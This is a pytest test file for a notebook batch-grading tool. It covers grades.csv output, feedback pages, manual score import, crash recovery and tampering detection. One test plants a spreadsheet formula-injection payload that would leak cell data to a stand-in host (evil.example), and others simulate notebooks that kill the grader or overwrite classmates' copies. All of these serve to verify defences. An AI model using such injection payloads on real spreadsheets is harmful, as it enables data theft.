"""Batch grading with a fake engine: exact grades.csv, gradebook scores, feedback pages, manual sheet round trip."""

import csv
import io
import json
import os
import signal
from pathlib import Path

import pytest

from grading_fakes import HIDDEN_MARK, fake_grade, lesson03_outline, write_fake
from modlab.grading import batch, gradebook
from modlab.grading.intake import collect
from modlab.grading.manual import ManualSheetError

ALL = [f"q{i}-check" for i in range(1, 10)]
HEADER = ["student", "lms_user_id", *[f"q{i}" for i in range(1, 10)], "r1", "r2", "auto total", "manual total", "total",
          "max", "status", "flags", "lms_notes"]
AWAITING, COMPLETE, NOT_GRADED = "awaiting hand grading", "complete", "not graded: see flags"
ALICE_R1 = "The poll's voters <b>chose</b> themselves, so the margin of error does not apply."
INTERNAL = ("the grader hit an internal problem (RuntimeError) on this notebook; it could not be graded "
            "automatically: please grade it by hand")


def _csv(rows):
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    return buffer.getvalue()


def _upload(root: Path, alice_text: str = ALICE_R1) -> Path:
    write_fake(root / "alice" / "03_amnesty_poll.ipynb", correct=ALL, answers={"q1-check": 0.724}, text={"r1": alice_text})
    write_fake(root / "bob" / "03_amnesty_poll.ipynb", correct=["q1-check", "q3-check"], flags=["cell 4 timed out after 60 s"])
    write_fake(root / "carol" / "03_amnesty_poll.ipynb", die=True)
    write_fake(root / "dora" / "03_amnesty_poll.ipynb", **{"raise": True})
    (root / "erin").mkdir()
    (root / "erin" / "essay.pdf").write_text("%PDF")
    return root


def _grade(tmp_path, upload, jobs=2):
    spec = lesson03_outline()
    submissions = collect(upload, spec.lesson, tmp_path / "out" / "work")
    return batch.grade_batch(submissions, spec, tmp_path / "out", jobs=jobs, grade=fake_grade, progress=False)


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    tmp_path = tmp_path_factory.mktemp("batch")
    summary = _grade(tmp_path, _upload(tmp_path / "upload"))
    return tmp_path / "out", summary


def test_grades_csv_is_exact_and_a_dying_worker_stops_nothing(graded):
    out, summary = graded
    zeros = ["0"] * 9
    assert (out / "grades.csv").read_text() == _csv([
        HEADER,
        ["alice", "", *["1"] * 9, "", "0", "9", "", "9", "16", AWAITING, "", ""],
        ["bob", "", "1", "0", "1", *["0"] * 6, "0", "0", "2", "0", "2", "16", COMPLETE, "cell 4 timed out after 60 s", ""],
        ["carol", "", *zeros, "0", "0", "0", "0", "0", "16", NOT_GRADED, batch.WORKER_DIED, ""],
        ["dora", "", *zeros, "0", "0", "0", "0", "0", "16", NOT_GRADED, INTERNAL, ""],
        ["erin", "", *zeros, "0", "0", "0", "0", "0", "16", NOT_GRADED,
         "no notebook found; handed in: erin/essay.pdf; no notebook for this lesson was found in the upload", ""],
    ])
    assert (summary.graded, len(summary.results), summary.flagged) == (4, 5, 4)  # erin: a row, nothing run


def test_gradebook_holds_auto_and_manual_scores(graded):
    out, _ = graded
    with gradebook.open_gradebook(out) as gb:
        lesson = "03_amnesty_poll"
        cells = gb.find_notebook(lesson, lesson).grade_cells
        assert sorted((c.name, c.max_score) for c in cells) == sorted([(q, 1.0) for q in ALL] + [("r1", 3.0), ("r2", 4.0)])
        q1, q2 = (gb.find_grade(q, lesson, lesson, "bob") for q in ("q1-check", "q2-check"))
        assert (q1.auto_score, q1.score, q2.auto_score, q2.score) == (1.0, 1.0, 0.0, 0.0)
        r1, r2 = (gb.find_grade(r, lesson, lesson, "alice") for r in ("r1", "r2"))
        assert (r1.auto_score, r1.manual_score, r1.needs_manual_grade) == (None, None, True)
        assert (r2.auto_score, r2.manual_score, r2.needs_manual_grade) == (0.0, 0.0, False)
        assert gb.find_submission(lesson, "alice").score == 9.0
        assert gb.find_submission(lesson, "bob").score == 2.0


def test_feedback_shows_results_kindly_and_never_tests_or_rubrics(graded):
    out, _ = graded
    rubric = lesson03_outline().free_responses[0].rubric
    pages = {p.stem: p.read_text() for p in (out / "feedback").glob("*.html")}
    assert sorted(pages) == ["alice", "bob", "carol", "dora", "erin"]
    for page in pages.values():
        assert HIDDEN_MARK not in page and "assert " not in page and "math.isclose" not in page
        assert rubric[:60] not in page and "Model answer" not in page
    alice = pages["alice"]
    assert alice.count('<span aria-hidden="true">\u2714</span> Correct') == 9
    assert "Auto-checked exercises: <strong>9 of 9 points</strong>" in alice
    assert "Written answers: <strong>not graded yet</strong> (out of 7 points)" in alice
    assert ("Overall: <strong>9 of 16 points</strong> so far: your written answers are not graded yet, so this is "
            "not your final grade.") in alice
    assert "Overall: <strong>2 of 16 points</strong>." in pages["bob"]  # blank answers: nothing left to grade
    assert "&lt;b&gt;chose&lt;/b&gt;" in alice and "<b>chose" not in alice  # student text is escaped
    assert "You left this answer blank, so it scores 0." in alice
    assert "<td>1 / 1</td>" in alice and '<td class="answer">0.724</td>' in alice
    bob = pages["bob"]
    assert bob.count("\u2718</span> Not yet correct") == 7 and "Not yet: check the units." in bob
    # The kit's first hint for each question not right (as q.hint() gives it), never for a correct one.
    hints = {q.grade_id: q.hint for q in lesson03_outline().questions}
    assert all(hints.values()) and "Hint: " not in alice
    for gid, hint in hints.items():
        assert (f"Hint: {hint}".replace("'", "&#39;").replace('"', "&#34;") in bob) == (gid not in ("q1-check", "q3-check"))
    assert "Notes from the grader" in bob and "<li>cell 4 timed out after 60 s</li>" in bob
    assert "Notes from the grader" not in alice
    assert batch.WORKER_DIED.replace("'", "&#39;") in pages["carol"]


def test_manual_sheet_lists_every_free_response_beside_its_rubric(graded):
    out, _ = graded
    rubrics = {r.grade_id: r.rubric for r in lesson03_outline().free_responses}
    with open(out / "manual_grading.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    # Sorted by question, then student: one reflection graded across the class.
    assert [(r["student"], r["question"], r["points"], r["score"], r["comment"]) for r in rows] == [
        (s, q, p, "" if (s, q) == ("alice", "r1") else "0", "")
        for q, p in (("r1", "3"), ("r2", "4")) for s in ("alice", "bob", "carol", "dora", "erin")
    ]
    assert rows[0]["answer"] == ALICE_R1 and rows[0]["rubric_and_model_answer"] == rubrics["r1"]
    assert rows[0]["label"] == "Reflection 1"
    assert all(r["rubric_and_model_answer"] == rubrics[r["question"]] for r in rows)


def _fill(sheet: Path, target: Path, changes: dict) -> Path:
    with open(sheet, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        row.update(changes.get((row["student"], row["question"]), {}))
    with open(target, "w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return target


def test_manual_import_round_trip_and_rerun_keeps_unchanged_scores(tmp_path):
    upload = _upload(tmp_path / "upload")
    _grade(tmp_path, upload, jobs=1)
    out = tmp_path / "out"
    filled = _fill(out / "manual_grading.csv", tmp_path / "filled.csv",
                   {("alice", "r1"): {"score": "2,5", "comment": "Good point about self-selection."}})
    summary = batch.import_manual(filled, out)
    assert summary.notes == [f"imported 1 hand score(s) from {filled}; 9 blank answer(s) were already 0"]
    alice_row = (out / "grades.csv").read_text().splitlines()[1]
    assert alice_row == "alice,,1,1,1,1,1,1,1,1,1,2.5,0,9,2.5,11.5,16,complete,,"
    page = (out / "feedback" / "alice.html").read_text()
    assert "Points: 2.5 / 3" in page and "Comment from your instructor: Good point about self-selection." in page
    assert "Written answers: <strong>2.5 of 7 points</strong>" in page
    with gradebook.open_gradebook(out) as gb:
        grade = gb.find_grade("r1", "03_amnesty_poll", "03_amnesty_poll", "alice")
        comment = gb.find_comment("r1", "03_amnesty_poll", "03_amnesty_poll", "alice")
        assert (grade.manual_score, grade.score, comment.manual_comment) == (2.5, 2.5, "Good point about self-selection.")

    # Same upload again: nothing regraded (unchanged notebooks), the hand-given score stays, nothing set aside.
    again = _grade(tmp_path, upload, jobs=1)
    assert again.notes == [f"{out} held an earlier run: resumed and merged into it",
                           "kept 4 result(s) of the earlier run whose notebook is unchanged (--regrade grades them again)"]
    assert again.newly_graded == 0  # erin's row (no notebook) is simply written again
    assert (out / "grades.csv").read_text().splitlines()[1] == alice_row
    assert list(out.glob("manual_grading.unimported-*.csv")) == []

    # Alice changed her answer: her score is cleared and the reason flagged.
    write_fake(upload / "alice" / "03_amnesty_poll.ipynb", correct=ALL, text={"r1": "A new answer."})
    _grade(tmp_path, upload, jobs=1)
    assert (out / "grades.csv").read_text().splitlines()[1] == (
        "alice,,1,1,1,1,1,1,1,1,1,,0,9,,9,16,awaiting hand grading,"
        "Reflection 1 changed since it was graded by hand: it needs grading again,")


def test_rerun_sets_aside_a_sheet_with_scores_not_imported(tmp_path):
    upload = _upload(tmp_path / "upload")
    _grade(tmp_path, upload, jobs=1)
    out = tmp_path / "out"
    _fill(out / "manual_grading.csv", out / "manual_grading.csv", {("alice", "r1"): {"score": "3"}})
    work = (out / "manual_grading.csv").read_text()
    summary = _grade(tmp_path, upload, jobs=1)
    [aside] = out.glob("manual_grading.unimported-*.csv")
    assert aside.read_text() == work
    assert summary.notes == [f"{out} held an earlier run: resumed and merged into it",
                             "kept 4 result(s) of the earlier run whose notebook is unchanged (--regrade grades them again)",
                             f"manual_grading.csv had scores not yet imported: copied to {aside.name} "
                             "(import it with --import-manual)"]


def test_manual_import_validates_every_row_and_imports_nothing_on_error(tmp_path):
    _grade(tmp_path, _upload(tmp_path / "upload"), jobs=1)
    out = tmp_path / "out"
    before = (out / "grades.csv").read_text()
    sheet = tmp_path / "bad.csv"
    sheet.write_text(
        "student,question,score,comment\n"
        "alice,r1,2,fine\n"        # row 2: valid, but nothing is imported while other rows are wrong
        "zed,r1,1,\n"              # row 3
        "alice,r9,1,\n"            # row 4
        "bob,r1,abc,\n"            # row 5
        "bob,r2,5,\n"              # row 6
        "alice,r1,1,\n"            # row 7
        "carol,r1,-1,\n"           # row 8
    )
    with pytest.raises(ManualSheetError) as caught:
        batch.import_manual(sheet, out)
    assert caught.value.problems == [
        "row 3: unknown student 'zed'",
        "row 4: unknown question 'r9' (free responses: r1, r2)",
        "row 5: score 'abc' is not a number",
        "row 6: score 5 is outside 0..4 for r2",
        "row 7: r1 for alice is also on row 2",
        "row 8: score -1 is outside 0..3 for r1",
    ]
    assert (out / "grades.csv").read_text() == before
    (tmp_path / "cols.csv").write_text("student,question,points\nalice,r1,3\n")
    with pytest.raises(ManualSheetError) as caught:
        batch.import_manual(tmp_path / "cols.csv", out)
    assert caught.value.problems == ["row 1: missing column(s) score, comment (expected student, question, score, comment)"]


def test_results_json_round_trips(graded):
    out, summary = graded
    stored = batch.load_results(out)
    assert [r.to_json() for r in stored] == [r.to_json() for r in sorted(summary.results, key=lambda r: r.student)]
    assert json.loads((out / "lesson.json").read_text())["lesson"] == "03_amnesty_poll"


def test_progress_bar_with_eta_goes_to_stderr(tmp_path, capsys):
    spec = lesson03_outline()
    upload = tmp_path / "up"
    for name in ("ana", "ben", "cy"):
        write_fake(upload / f"{name}.ipynb", correct=["q1-check"])
    results = batch.run_all(collect(upload, spec.lesson, tmp_path / "work"), spec, jobs=2, grade=fake_grade)
    assert [(r.student, r.auto_score) for r in results] == [("ana", 1.0), ("ben", 1.0), ("cy", 1.0)]
    captured = capsys.readouterr()
    assert captured.out == ""
    final = captured.err.replace("\r", "\n").strip().splitlines()[-1]
    assert final.startswith("grading: 100%") and " 3/3 [" in final and "<00:00" in final  # elapsed<remaining


KILLER = """
import sys
sys.path.insert(0, {tests!r})
from grading_fakes import fake_grade, lesson03_outline
from modlab.grading import batch
from modlab.grading.intake import collect
spec = lesson03_outline()
batch.grade_batch(collect({upload!r}, spec.lesson, {work!r}), spec, {out!r}, jobs=1, grade=fake_grade, progress=False)
"""


def test_a_killed_grader_loses_nothing_and_a_rerun_resumes_and_flags_the_culprit(tmp_path):
    import subprocess
    import sys

    upload, out = tmp_path / "upload", tmp_path / "out"
    write_fake(upload / "alice.ipynb", correct=ALL)
    write_fake(upload / "bob.ipynb", correct=["q1-check"], kill_grader=True)  # a notebook that kill -9s the grader
    write_fake(upload / "carol.ipynb", correct=["q2-check"])
    script = KILLER.format(tests=str(Path(__file__).parent), upload=str(upload), work=str(out / "work"), out=str(out))
    # Its own session, no pipes: the pool's orphaned workers are ended with their group, and cannot hold us.
    run = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                           start_new_session=True)
    try:
        assert run.wait(timeout=120) == -9
    finally:
        try:
            os.killpg(run.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
    # alice was graded before bob's turn: her result is on disk, complete.
    assert sorted(p.name for p in (out / "results").glob("*.json")) == ["alice.json"]
    assert batch.load_results(out)[0].auto_score == 9

    # The re-run keeps alice (unchanged), does not run bob again (he was graded alone when it stopped), grades carol.
    summary = _grade(tmp_path, upload, jobs=2)
    assert summary.newly_graded == 1
    rows = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv", encoding="utf-8"))}
    assert [(s, rows[s]["auto total"], rows[s]["status"], rows[s]["flags"]) for s in rows] == [
        ("alice", "9", COMPLETE, ""), ("bob", "0", NOT_GRADED, batch.STOPPED_ALONE), ("carol", "1", COMPLETE, "")]
    assert batch.STOPPED_ALONE.startswith("the previous run stopped while grading this notebook")
    assert summary.notes[:2] == [f"{out} held an earlier run: resumed and merged into it",
                                 "kept 1 result(s) of the earlier run whose notebook is unchanged (--regrade grades them again)"]

    # A changed notebook is graded again; --regrade grades everyone (bob no longer kills: he is fixed).
    write_fake(upload / "bob.ipynb", correct=["q1-check", "q2-check"])
    again = _grade_with(tmp_path, upload, regrade=True)
    assert again.newly_graded == 3
    rows = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv", encoding="utf-8"))}
    assert (rows["bob"]["auto total"], rows["bob"]["flags"]) == ("2", "")


def _grade_with(tmp_path, upload, **options):
    spec = lesson03_outline()
    submissions = collect(upload, spec.lesson, tmp_path / "out" / "work")
    return batch.grade_batch(submissions, spec, tmp_path / "out", jobs=1, grade=fake_grade, progress=False,
                             source=upload, **options)


def test_an_upload_with_some_students_merges_into_the_class_folder(tmp_path):
    upload = _upload(tmp_path / "upload")
    _grade(tmp_path, upload, jobs=2)
    only_bob = tmp_path / "bob_only"
    write_fake(only_bob / "bob" / "03_amnesty_poll.ipynb", correct=ALL)
    summary = _grade(tmp_path, only_bob, jobs=1)
    rows = {r["student"]: r["auto total"] for r in csv.DictReader(open(tmp_path / "out" / "grades.csv", encoding="utf-8"))}
    assert rows == {"alice": "9", "bob": "9", "carol": "0", "dora": "0", "erin": "0"}
    assert summary.notes[-1] == ("merged by student: kept 4 student(s) of earlier runs who are not in this upload "
                                 "(alice, carol, dora, erin)")
    assert sorted(p.stem for p in (tmp_path / "out" / "feedback").glob("*.html")) == ["alice", "bob", "carol", "dora", "erin"]


def test_a_notebook_rewriting_others_copies_and_the_upload_changes_no_grade_and_is_flagged(tmp_path):
    upload, out = tmp_path / "upload", tmp_path / "out"
    sabotaged = json.dumps({"correct": []})
    targets = [upload / "bob.ipynb", upload / "carol.ipynb", out / "work" / "submissions" / "bob.ipynb",
               out / "work" / "submissions" / "carol.ipynb"]
    write_fake(upload / "aaron.ipynb", correct=["q1-check"], overwrite={str(p): sabotaged for p in targets})
    write_fake(upload / "bob.ipynb", correct=ALL)
    write_fake(upload / "carol.ipynb", correct=ALL)
    summary = _grade_with(tmp_path, upload)
    rows = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv", encoding="utf-8"))}
    assert {s: r["auto total"] for s, r in rows.items()} == {"aaron": "1", "bob": "9", "carol": "9"}  # honest grades
    for student in ("bob", "carol"):
        assert rows[student]["flags"] == "; ".join([
            batch.COPY_CHANGED, batch.UPLOAD_CHANGED.format(files=f"{student}.ipynb")])
    assert "the upload changed while grading: possible tampering (bob.ipynb)" in rows["bob"]["flags"]
    assert rows["aaron"]["flags"] == ""
    assert summary.flagged == 2 and "the upload changed while grading (2 file(s))" in summary.notes[-1]
    # The working copies left in work/ are the honest ones again.
    assert json.loads((out / "work" / "submissions" / "bob.ipynb").read_text())["correct"] == ALL


def test_csv_cells_that_a_spreadsheet_would_run_are_escaped_and_ids_read_back(tmp_path):
    upload = tmp_path / "upload"
    formula = '=HYPERLINK("http://evil.example/?"&A2,"click")'
    write_fake(upload / "-1+1" / "03_amnesty_poll.ipynb", correct=ALL, text={"r1": formula, "r2": "@SUM(1+1)"})
    write_fake(upload / "lopezana_12345_67890_03_amnesty_poll.ipynb", correct=ALL)
    write_fake(upload / "kimlee_LATE_23456_78901_03_amnesty_poll.ipynb", correct=[])
    _grade(tmp_path, upload, jobs=1)
    out = tmp_path / "out"
    rows = list(csv.reader(open(out / "grades.csv", encoding="utf-8")))
    assert [r[:2] for r in rows[1:]] == [["'-1_1", ""], ["kimlee", "23456"], ["lopezana", "12345"]]
    # kimlee wrote nothing: blank answers score 0, so nothing is left to grade by hand.
    assert rows[2][-3:] == ["complete", "", "the LMS marked this submission late (a note from the LMS; modlab grade "
                                            "applied no penalty)"]
    sheet = list(csv.DictReader(open(out / "manual_grading.csv", encoding="utf-8-sig")))
    assert [(r["student"], r["question"], r["answer"]) for r in sheet[:1]] == [("'-1_1", "r1", "'" + formula)]
    assert [r["answer"] for r in sheet if r["student"] == "'-1_1"] == ["'" + formula, "'@SUM(1+1)"]
    filled = _fill(out / "manual_grading.csv", tmp_path / "filled.csv",
                   {("'-1_1", "r1"): {"score": "2", "comment": "+ good"}, ("'-1_1", "r2"): {"score": "1"}})
    summary = batch.import_manual(filled, out)
    assert summary.notes[0].startswith("imported 2 hand score(s) from")
    rows = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv", encoding="utf-8"))}
    assert (rows["'-1_1"]["total"], rows["'-1_1"]["status"]) == ("12", "complete")
    assert "Comment from your instructor: + good" in (out / "feedback" / "-1_1.html").read_text()
    page = (out / "feedback" / "kimlee.html").read_text()
    assert "Notes from the course website" in page and "Notes from the grader" not in page


def test_a_score_with_a_thousands_separator_is_refused(tmp_path):
    _grade(tmp_path, _upload(tmp_path / "upload"), jobs=1)
    sheet = tmp_path / "s.csv"
    sheet.write_text("student,question,score,comment\nalice,r1,\"1,000\",\nbob,r1,\"2,5\",\n")
    with pytest.raises(ManualSheetError) as caught:
        batch.import_manual(sheet, tmp_path / "out")
    assert caught.value.problems == [
        "row 2: score '1,000' is not a number of points (a comma is read only as a decimal comma, as in 2,5)"]


def test_a_copy_changed_while_being_graded_is_flagged(tmp_path):
    upload = tmp_path / "upload"
    write_fake(upload / "alice.ipynb", correct=ALL, rewrite_own_copy=True)
    write_fake(upload / "bob.ipynb", correct=ALL)
    summary = _grade_with(tmp_path, upload)
    assert {r.student: r.flags for r in summary.results} == {"alice": [batch.COPY_CHANGED_WHILE], "bob": []}
    assert batch.load_results(tmp_path / "out")[0].flags == [batch.COPY_CHANGED_WHILE]


def test_notebooks_in_flight_beside_others_when_a_run_stopped_are_graded_again_alone(tmp_path):
    upload, out = tmp_path / "upload", tmp_path / "out"
    write_fake(upload / "alice.ipynb", correct=ALL)
    write_fake(upload / "bob.ipynb", correct=["q1-check"])
    _grade_with(tmp_path, upload)
    # As a run with --jobs 2 leaves it when killed with bob and alice in flight (alice had finished).
    (out / "work" / "inflight").mkdir(parents=True, exist_ok=True)
    (out / "work" / "inflight" / "bob.json").write_text(json.dumps({"alone": False}))
    summary = _grade_with(tmp_path, upload)
    assert summary.newly_graded == 1
    assert {r.student: (r.auto_score, r.flags) for r in summary.results} == {
        "alice": (9, []), "bob": (1, [batch.STOPPED_AGAIN])}
    assert batch.STOPPED_AGAIN == "the previous run stopped while grading this notebook; graded again, on its own"
    assert not list((out / "work" / "inflight").glob("*.json"))


def test_pool_workers_die_with_a_killed_grader(tmp_path):
    """A notebook can `kill -9` the grader; its pool workers must not live on (found by a breaker)."""
    import subprocess
    import sys
    import time

    script = (
        "import os, sys, time\n"
        "from concurrent.futures import ProcessPoolExecutor\n"
        "from modlab.grading import batch\n"
        "with ProcessPoolExecutor(max_workers=2, initializer=batch._worker_dies_with_grader, initargs=(os.getpid(),)) as pool:\n"
        "    pids = {f.result() for f in [pool.submit(os.getpid) for _ in range(4)]}\n"
        "    print(' '.join(map(str, pids)), flush=True)\n"
        "    time.sleep(60)\n"
    )
    grader = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True)
    assert grader.stdout.readline().split()
    time.sleep(0.5)  # the pool may start its second worker after the first has done every task
    workers = [int(pid) for pid in Path(f"/proc/{grader.pid}/task/{grader.pid}/children").read_text().split()]
    assert workers and grader.pid not in workers
    grader.kill()
    grader.wait()
    deadline = time.monotonic() + 10
    alive = workers
    while alive and time.monotonic() < deadline:
        time.sleep(0.2)
        alive = [pid for pid in workers if Path(f"/proc/{pid}").exists() and "Z" not in _state(pid)]
    assert not alive, f"pool workers {alive} outlived the killed grader"


def _state(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return "Z"
